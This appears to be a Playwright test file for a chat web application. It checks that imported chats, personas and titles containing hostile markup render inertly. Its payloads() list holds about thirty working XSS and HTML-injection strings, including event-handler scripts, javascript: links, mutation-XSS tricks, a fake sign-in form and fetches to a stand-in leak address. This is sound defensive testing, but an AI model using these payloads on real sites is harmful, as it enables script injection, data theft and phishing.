"""Hostile words wherever words are shown: nothing runs, nothing is fetched, nothing leads away."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from browsing import an_export, replies
from serving import Served

Visiting = Callable[..., Page]


class Listener:
    """A port of this machine to which nobody may ever talk; it keeps who did."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            with caller:
                self.heard.append(caller.recv(2000))

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.close()
    assert listening.heard == []


def payloads(leak: str) -> list[str]:
    """Return what has got through in other chats, each pointing to `leak`."""
    return [
        f"<img src=x onerror=\"alert(1);fetch('{leak}')\">",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        f"<script src='{leak}.js'></script><script>alert(1)</script>",
        "[press me](javascript:alert(1)) [or me](JaVaScRiPt&colon;alert(1)) [or](\tjavascript:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [file](file:///etc/passwd)",
        f"![a picture]({leak}.png) <img srcset='{leak} 2x'> ![][r]\n\n[r]: {leak}-ref.png",
        f"<style>@import '{leak}.css'; body {{ background: url({leak}) }}</style>",
        f"<p style=\"background:url('{leak}')\">styled</p> <div style='position:fixed;inset:0'>over</div>",
        f"<base href='{leak}/'><link rel=stylesheet href='{leak}.css'><link rel=prefetch href='{leak}'>",
        f"<meta http-equiv=refresh content='0;url={leak}'>",
        f"<form action='{leak}'><input name=q value=secret><button>Sign in again</button></form>",
        f"<iframe src='{leak}'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        f"<object data='{leak}'></object><embed src='{leak}'><video src='{leak}' autoplay></video>",
        f"<audio src='{leak}' autoplay></audio><table background='{leak}'><tr><td>x</table>",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<a href='//evil.example' onclick=alert(1) ping='/x'>a</a>",
        "<details open ontoggle=alert(1)>b</details>",
        f"$\\href{{javascript:alert(1)}}{{x}}$ $\\includegraphics{{{leak}.png}}$ $\\htmlId{{x}}{{y}}$",
        f"$$\\url{{javascript:alert(1)}} \\htmlStyle{{background:url({leak})}}{{x}}$$",
        "```<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```",
        "```html\n<script>alert(1)</script>\n```",
        "<div id=page><button id=send onfocus=alert(1) autofocus>Send</button></div>",
        "<a name=body id=cookie>c</a>",
        f"<x-a onpointerenter=alert(1) tabindex=0>hover</x-a> <a href='{leak}?q=secret' download>get</a>",
        "\u202egpj.exe\u202c \u2066\u2067 [\u202ehttps://gro.knab//:sptth](https://evil.example/)",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](vbscript:x) | <svg/onload=alert(1)> |",
    ]


DEEP = (
    "> " * 4000
    + "end\n\n"
    + "- " * 2000
    + "x\n\n"
    + "[" * 20_000
    + "\n\n"
    + "*a_" * 8000
    + "\n\n"
    + "`" * 9999
)

SAFE = r"""
() => {
    const never = /^(script|iframe|object|embed|form|base|meta|link|style|video|audio|img|x-a)$/;
    const forbidden = /^(on.*|srcset|ping|srcdoc|background|download)$/;
    const address = /^(href|src|action|data)$/;
    const harmless = /^(#|https?:|mailto:)/;
    const bad = [];
    for (const element of document.querySelectorAll("article *, #chats *, h1, h1 *, li *")) {
        const told = element.outerHTML.slice(0, 120);
        if (never.test(element.localName)) bad.push(told);
        for (const { name, value } of element.attributes) {
            if (forbidden.test(name)) bad.push(told);
            if (address.test(name) && !harmless.test(value)) bad.push(told);
            if (name === "style" && /url|fixed/.test(value)) bad.push(told);
        }
        const away = element.localName === "a" && !element.getAttribute("href")?.startsWith("#");
        if (away && element.hasAttribute("href") && element.rel !== "noopener noreferrer") bad.push(told);
    }
    return bad;
}
"""
VIOLATIONS = """
addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
    console.error(`the policy was broken: ${violatedDirective} ${blockedURI}`);
});
"""


@pytest.fixture
def brought(served: Served, listener: Listener) -> list[str]:
    """Import one chat for every payload, said by all and in all places; return their ids."""
    chats = []
    for said in [*payloads(f"http://127.0.0.1:{listener.port}/leak?q=secret"), DEEP]:
        file = {"type": "file", "name": said.replace("\n", " ")[:150], "text": said}
        reasoning = [{"type": "reasoning", "text": said}, {"type": "text", "text": said}]
        asked = [file, {"type": "text", "text": said}]
        chats.append(
            {
                "title": said[:150].replace("\n", " "),
                "messages": [("system", said), ("user", asked), ("assistant", reasoning)],
            }
        )
    answer = served.http.post("/fireside/v1/import", content=an_export(*chats))
    assert '"skipped":[]' in answer.text.replace(" ", ""), answer.text[-500:]
    conversations = served.get("/conversations?limit=100")["conversations"]
    return [one["id"] for one in conversations]


def test_hostile_words_do_nothing(served: Served, visit: Visiting, brought: list[str]) -> None:
    page = visit(served)
    page.add_init_script(VIOLATIONS)
    page.reload()
    assert len(brought) > 25
    for conversation in brought:
        page.goto(f"{served.runtime.address}/#/c/{conversation}")
        expect(replies(page)).to_have_count(1)
        expect(replies(page).locator(".prose")).not_to_be_empty()
        for summary in page.locator("article summary").all():
            summary.click()
        assert page.evaluate(SAFE) == []
    # KaTeX and the languages of code come late.
    page.wait_for_load_state("networkidle")
    assert page.evaluate(SAFE) == []
    page.get_by_role("link", name="Search").click()
    page.get_by_role("searchbox").fill("alert")
    expect(page.locator("mark").first).to_be_visible()
    assert page.evaluate(SAFE) == []


def test_links_of_others_open_elsewhere_and_hostile_ones_are_none(served: Served, visit: Visiting) -> None:
    words = "[good](https://example.org/a) [bad](javascript:alert(1)) [own](/export) <https://example.org/b>"
    chat = an_export({"title": "Links", "messages": [("user", "?"), ("assistant", words)]})
    served.http.post("/fireside/v1/import", content=chat)
    found = served.get("/search?query=good")["hits"][0]
    page = visit(served, f"#/c/{found['conversation_id']}")
    links = replies(page).get_by_role("link")
    expect(links).to_have_count(2)
    for link in links.all():
        expect(link).to_have_attribute("rel", "noopener noreferrer")
        expect(link).to_have_attribute("target", "_blank")


def test_hostile_personas_do_nothing(served: Served, visit: Visiting, listener: Listener) -> None:
    said = "\n".join(payloads(f"http://127.0.0.1:{listener.port}/persona"))
    toml = f'name = "Mallory"\ndescription = {json.dumps(said)}\nfirst_message = {json.dumps(said)}\n'
    toml = toml.replace("\\u202e", "\u202e")
    served.http.put("/fireside/v1/personas/Mallory", json={"toml": toml}).raise_for_status()
    page = visit(served, "#/settings/personas")
    card = page.get_by_role("listitem").filter(has=page.get_by_role("heading", name="Mallory"))
    expect(card).to_contain_text("onerror=")
    card.get_by_role("button", name="Use in a new chat").click()
    expect(page.get_by_text("Mallory begins:")).to_be_visible()
    page.get_by_role("button", name="Persona: Mallory. Choose another one").click()
    expect(page.get_by_role("dialog")).to_contain_text("onerror=")
    assert page.evaluate(SAFE) == []


def test_a_name_that_turns_around_stays_on_its_own_side(served: Served, visit: Visiting) -> None:
    served.new_conversation(title="abc \u202e\u2067 fdp.exe")
    served.new_conversation(title="مرحبا بالعالم")
    page = visit(served)
    for title in page.locator("#chats .title").all():
        expect(title).to_have_attribute("dir", "auto")
        assert title.evaluate("title => getComputedStyle(title).unicodeBidi") in ("isolate", "plaintext")


def test_the_page_is_in_nobody_elses_frame(served: Served, browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    other = f"http://localhost:{urlsplit(served.runtime.address).port}/health"
    page.goto(other)
    page.set_content(f"<iframe src='{served.runtime.address}/'></iframe>")
    page.wait_for_function("() => document.querySelector('iframe').contentDocument === null")
    frame = page.frames[-1]
    expect(frame.locator("#page")).to_have_count(0)
    context.close()
    assert [text for text in refused if "frame-ancestors" in text]
